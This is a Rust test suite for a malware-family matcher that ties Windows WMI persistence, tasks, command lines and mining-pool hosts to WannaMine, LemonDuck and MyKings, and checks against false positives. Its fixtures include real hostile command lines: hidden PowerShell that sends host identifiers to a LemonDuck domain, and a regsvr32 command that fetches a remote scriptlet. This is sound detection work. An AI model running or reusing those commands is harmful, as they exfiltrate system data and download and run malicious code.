//! What makes a family, and what must not.

use deminer_intel::IndicatorKind::{self, *};
use deminer_intel::{FamilyMatch, Intel, Observation};

fn find(seen: &[(IndicatorKind, &str)]) -> Vec<FamilyMatch<'static>> {
    let seen: Vec<_> = seen.iter().map(|(kind, text)| Observation::new(*kind, text)).collect();
    Intel::builtin().match_families(&seen)
}

/// The families that match, as text for a snapshot.
fn summary(seen: &[(IndicatorKind, &str)]) -> String {
    let line = |found: &FamilyMatch<'_>| {
        let sure = match (found.content, found.certain) {
            (_, true) => "certain",
            (true, false) => "content",
            (false, false) => "possible",
        };
        format!("{} {} {sure}", found.family, found.score)
    };
    find(seen).iter().map(line).collect::<Vec<_>>().join("\n")
}

const COUNTER: &str = "select * from __instancemodificationevent within 5600 where targetinstance isa \"Win32_PerfFormattedData_PerfOS_System\"";

#[test]
fn wannamine_by_its_three_files() {
    insta::assert_snapshot!(summary(&[
        (FilterName, "SCM Event8 Log Filter"),
        (ConsumerName, "SCM Event8 Log Consumer"),
        (Query, COUNTER),
        (CommandText, "powershell.exe -NoP -NonI -W Hidden  -E JABzAGUAPQBAACgAJwA"),
    ]), @"WannaMine 19 certain");
}

#[test]
fn wannamine_by_its_read_back() {
    let command = r#"powershell.exe -NoP -NonI -W Hidden "$mon = ([WmiClass] 'ROOT\DEFAULT:systemcore_Updater8').Properties['mon'].Value;$funs = ([WmiClass] 'root\default:systemcore_Updater8').Properties['funs'].Value"#;
    insta::assert_snapshot!(summary(&[(CommandText, command)]), @"WannaMine 14 certain");
}

#[test]
fn wannamine_by_the_names_of_its_class_store_is_a_possibility() {
    insta::assert_snapshot!(summary(&[
        (ClassName, "systemcore_Updater8"),
        (ClassProperty, "mimi"),
        (ClassProperty, "mon"),
        (ClassProperty, "funs"),
        (ClassProperty, "ipsu"),
    ]), @"WannaMine 15 possible");
}

#[test]
fn lemonduck_by_subscription_and_by_script() {
    let counter = COUNTER.replace("5600", "3600");
    let command = "/c powershell -w hidden -c $url='http://'+'t.zer9g.com';a($url+'/a.jsp?v*'+(@($env:COMPUTERNAME,$env:USERNAME,(get-wmiobject Win32_ComputerSystemProduct).UUID,(random))-join'*'))";
    insta::assert_snapshot!(summary(&[(Query, &counter)]), @"LemonDuck 3 possible");
    insta::assert_snapshot!(summary(&[(Query, &counter), (CommandText, command)]), @"LemonDuck 21 certain");
}

#[test]
fn mykings_by_timer_query_and_script() {
    insta::assert_snapshot!(summary(&[
        (TimerName, "fuckyoumm2_itimer"),
        (Query, "select * from __TimerEvent where TimerId = 'fuckyoumm2_itimer'"),
        (CommandText, r"regsvr32 /u /s /i:http://js.MyKings.top:280/v.sct scrobj.dll"),
    ]), @"MyKings 35 certain");
}

#[test]
fn the_stock_subscription_is_of_no_family() {
    insta::assert_snapshot!(summary(&[
        (FilterName, "SCM Event Log Filter"),
        (ConsumerName, "SCM Event Log Consumer"),
        (Query, "select * from MSFT_SCMEventLogEvent"),
        (FilterName, "BVTFilter"),
        (ConsumerName, "BVTConsumer"),
        (CommandText, "cscript KernCap.vbs"),
        (FilterName, "DellCommandPowerManagerAlertEventFilter"),
        (ConsumerName, "DellCommandPowerManagerAlertEventConsumer"),
        (ConsumerName, "Microsoft WMI Updating Consumer Scenario Control"),
    ]), @"");
}

#[test]
fn ordinary_words_and_real_windows_names_weigh_nothing_alone() {
    for (kind, text) in [
        (TaskName, "At1"),
        (TaskName, "At2"),
        (TaskName, "ok"),
        (TaskName, "IIS"),
        (TaskName, "DNS"),
        (TaskName, "SYSTEM"),
        (TaskName, "Update"),
        (TaskName, "HomeGroupProvider"),
        (TaskName, "WebServers"),
        (TaskName, "gm"),
        (TaskName, r"\Microsoft\Windows\.NET Framework\.NET Framework NGEN v4.0.30319 64"),
        (ServiceName, "lsass"),
        (ServiceName, "AxInstSV"),
        (ServiceName, "SxS"),
        (ServiceName, "Microsoft Telemetry"),
        (ServiceName, "WinRing0_1_2_0"),
        (IpsecPolicy, "qianye"),
        (FirewallRule, "Chrome"),
        (FirewallRule, "deny445"),
        (FilterName, "EF"),
        (FileName, "coredpussvr.exe"),
        (FilePath, r"C:\Program Files\Java\bin\java.exe"),
        (FilePath, r"C:\Windows\System32\msvcp120.dll"),
        (FilePath, r"C:\Program Files\Internet Explorer\iexplore.exe"),
        (FilePath, r"C:\Windows\System32\svchost.exe"),
        (FileName, "startas.bat"),
        (TaskName, "ngm"),
        (Port, "14444"),
        (ClassProperty, "sc"),
        (ClassProperty, "ver"),
        (ClassName, "Win32_Service"),
        (CommandText, "w32tm /config: NTP stratum 2, xmr in base64 eHhtcg=="),
        (CommandText, r"$c = [WmiClass]'root\default:StdRegProv'"),
    ] {
        assert_eq!(find(&[(kind, text)]), [], "{text}");
    }
}

#[test]
fn names_alone_are_never_certain() {
    // Everything at once that any family knows as a mere name.
    for family in Intel::builtin().families() {
        let names = family.indicators.iter().filter(|indicator| !indicator.is_content());
        let texts: Vec<_> = names
            .map(|name| (name.kind, name.pattern.as_str().replace('#', "8").replace('*', "x")))
            .collect();
        let seen: Vec<_> = texts.iter().map(|(kind, text)| (*kind, text.as_str())).collect();
        for found in find(&seen) {
            assert!(!found.content && !found.certain, "{found:?}");
        }
    }
}

#[test]
fn every_indicator_finds_its_own_family() {
    for family in Intel::builtin().families() {
        for indicator in family.indicators.iter().filter(|indicator| indicator.weight > 1) {
            let written = indicator.pattern.as_str();
            let example = || written.replace('#', "12").replace('*', "x");
            let text = match indicator.kind {
                Query => written.to_owned(),
                _ => indicator.pattern.literal_as_written().unwrap_or_else(example),
            };
            let found = find(&[(indicator.kind, &text)]);
            assert!(found.iter().any(|found| found.family == family.name), "{}: {text}", family.name);
        }
    }
}

#[test]
fn hosts_and_files_are_found_in_scripts_as_words_of_their_own() {
    let families =
        |text: &str| find(&[(CommandText, text)]).iter().map(|found| found.family).collect::<Vec<_>>();
    assert_eq!(families("iwr http://195.22.127.93/x"), ["WannaMine"]);
    assert_eq!(families("cmd /c x & 195.22.127.93."), ["WannaMine"]);
    assert_eq!(families("iwr http://t.AMYNX.com/x"), ["LemonDuck"]);
    assert_eq!(families(r"start C:\Windows\system32\wmassrv.dll"), ["WannaMine (file line)"]);
    assert_eq!(
        families(r"gp 'HKLM:\SOFTWARE\Classes\CLSID\{55FFDA11-ee00-4409-bba4-bdd79d630f36}'"),
        ["WannaMine"]
    );
    for text in [
        "iwr http://195.22.127.931/x",
        "iwr http://1195.22.127.93/x",
        "iwr http://195.22.127.93.example.org/x",
        "iwr http://t.amynx.com.example.org/",
        "iwr http://notamynx.com/",
        "gif.bin",
    ] {
        assert_eq!(families(text), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn urls_count_by_their_hosts() {
    assert_eq!(find(&[(Url, "http://down.ackng.com:80/m")])[0].family, "LemonDuck");
    assert_eq!(find(&[(Url, "http://example.org/?u=ackng.com")]), []);
}

#[test]
fn an_indicator_counts_once_and_names_what_it_matched() {
    let found = find(&[(TaskName, "nothing"), (TaskName, r"\Mysa"), (TaskName, "mysa")]);
    assert_eq!(found[0].score, 3);
    assert_eq!(found[0].indicators[0].observation, 1);
}

#[test]
fn pools_are_known_by_host_and_port() {
    let pools = Intel::builtin().pools();
    assert_eq!(
        pools.host("xmr-eu1.nanopool.org:14444").map(|pool| pool.kind),
        Some(deminer_intel::PoolKind::Public)
    );
    assert_eq!(pools.host("LPLP.ackng.com").map(|pool| pool.kind), Some(deminer_intel::PoolKind::Malware));
    assert!(pools.host("notnanopool.org").is_none() && pools.host("example.org").is_none());
    assert!(pools.is_port(14444) && !pools.is_port(443));
}

/// The budget is 10,000 bundles in 10 s for everything; families may take a hundredth of it.
#[test]
fn matching_is_fast_enough_even_unoptimised() {
    let seen: Vec<_> = (0..30)
        .flat_map(|_| {
            [
                Observation::new(FilterName, "SCM Event Log Filter"),
                Observation::new(TaskName, r"\Microsoft\Windows\UpdateOrchestrator\Schedule Scan"),
                Observation::new(CommandText, r"%windir%\system32\rundll32.exe Startupscan.dll,SusRunTask"),
            ]
        })
        .collect();
    let start = std::time::Instant::now();
    for _ in 0..100 {
        assert!(Intel::builtin().match_families(&seen).is_empty());
    }
    assert!(start.elapsed().as_secs() < 5, "{:?}", start.elapsed());
}
